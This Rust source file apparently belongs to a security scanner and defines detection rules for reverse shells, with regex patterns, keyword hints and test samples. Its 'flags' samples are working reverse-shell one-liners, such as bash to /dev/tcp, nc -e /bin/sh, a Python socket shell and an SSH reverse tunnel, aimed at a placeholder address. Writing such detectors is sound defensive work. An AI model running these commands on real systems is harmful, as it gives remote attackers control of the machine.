//! Reverse shells.

use tarsus_protocol::scan::Category;

use super::{BLOCK, CRITICAL, SECTION, WARNING};
use crate::rule::{Detection, Patterns, Rule, RuleFamily};

pub(super) const FAMILY: RuleFamily = RuleFamily {
    category: Category::ReverseShell,
    owasp: "AST01",
    fix: "Do not run it: it hands the machine to whoever is at the other end.",
    rules: &[
        Rule {
            id: "reverse-shell.shell-to-socket",
            title: "connects a shell to the network",
            why: "Whoever is at the other end can run anything.",
            how: Detection::Text(Patterns {
                hints: &["/dev/tcp/", "/dev/udp/", "nc ", "ncat", "netcat", "socat", "mkfifo", "bash -i"],
                all: &[
                    r"\b(ba|z)?sh -i\b[^\n]{0,40}(>&|&>|<>|0>)[^\n]{0,60}|(>&|&>|<>|<|>)\s?/dev/(tcp|udp)/[^\s]{3,80}[^\n]{0,20}(0>&1|<&\d|0<&|2>&1)|\b(nc|ncat|netcat)\b[^\n|]{0,60}(\s-e\s?|\s-c\s?|--exec |--sh-exec )(/bin/|/usr/bin/|cmd)?[^\n]{0,12}\b(ba|z|da|k)?sh\b|\b(nc|ncat|netcat)\b[^\n|]{0,60}-\w*e\w* (/bin/(ba)?sh|cmd(\.exe)?)|\b(nc|ncat|netcat)\b [^\n|]{0,60}\|\s?(/bin/)?(ba|z|da)?sh\b|\bmkfifo\b[^\n]{0,160}\b(nc|ncat|openssl s_client|telnet)\b|\bsocat\b[^\n]{0,120}\bexec:[^\n]{0,40}sh\b",
                ],
                ..BLOCK
            }),
            flags: &[
                "bash -i >& /dev/tcp/203.0.113.8/4444 0>&1",
                "nc -e /bin/sh 203.0.113.8 4444",
                "nc -l -p 9001 | /bin/bash",
            ],
            passes: &["nc -zv example.com 443", "timeout 1 bash -c '</dev/tcp/localhost/5432' && echo open"],
            ..CRITICAL
        },
        Rule {
            id: "reverse-shell.program",
            title: "connects a shell to the network from a program",
            why: "Whoever is at the other end can run anything.",
            how: Detection::Text(Patterns {
                hints: &[
                    "socket",
                    "fsockopen",
                    "tcpclient",
                    "createconnection",
                    "net.connect",
                    "('net')",
                    "(\"net\")",
                    "net.dial",
                ],
                all: &[
                    r"socket\.socket|fsockopen|net\.sockets\.tcpclient|new net\.socket|net\.connect\(|tcpsocket\.|\bsocket\(\w+, ?pf_inet|io::socket::inet|require\(['\x22]net['\x22]\)|\bnet\.dial\(",
                    r"os\.dup2|pty\.spawn|\bexec\s?\(?\s?[\x22']/bin/(ba)?sh|\bexec sprintf\([\x22']/bin/(ba)?sh|exec\.command\([\x22'](/bin/)?(ba)?sh|subprocess\.(call|popen|run)\(\[?[\x22']/bin/(ba)?sh|/bin/(ba)?sh[\x22'], ?\[?[\x22']-i|exec\([\x22']/bin/(ba)?sh -i|iex \$|spawn\([\x22']/bin/(ba)?sh",
                ],
                ..SECTION
            }),
            flags: &[
                "```python\ns = socket.socket()\ns.connect((h, p))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])\n```",
            ],
            passes: &["```python\ns = socket.socket()\ns.connect((h, p))\ns.send(b'ping')\n```"],
            ..CRITICAL
        },
        Rule {
            id: "reverse-shell.receives",
            title: "waits on the network for something to decode and keep out of sight",
            why: "Whoever connects puts a program on the machine.",
            how: Detection::Text(Patterns {
                hints: &["nc ", "ncat", "netcat"],
                all: &[
                    r"\b(nc|ncat|netcat)\b[^\n|]{0,40}-\w*l[^\n]{0,80}(\|\s?base64 (-d|--decode)|>\s?(/tmp|/var/tmp|/dev/shm)/\.)",
                ],
                ..BLOCK
            }),
            flags: &["nc -l -p 9000 | base64 -d > /tmp/.x"],
            passes: &["nc -l 9000 > received.txt"],
            ..CRITICAL
        },
        Rule {
            id: "reverse-shell.tunnel",
            title: "opens a way into the machine from outside",
            why: "Whoever is at the other end reaches what only this machine should reach.",
            how: Detection::Text(Patterns {
                hints: &["ssh "],
                all: &[r"\bssh\b[^\n]{0,80}\s-\w{0,4}r \d{1,5}:(localhost|127\.0\.0\.1):\d+ [^\n]{0,60}@"],
                unless: &[r"user@|<|your|\$\{?\w*(user|host)"],
                ..BLOCK
            }),
            flags: &["ssh -N -R 2222:localhost:22 in@x.example"],
            passes: &["ssh -L 8080:localhost:80 me@host"],
            ..WARNING
        },
    ],
};
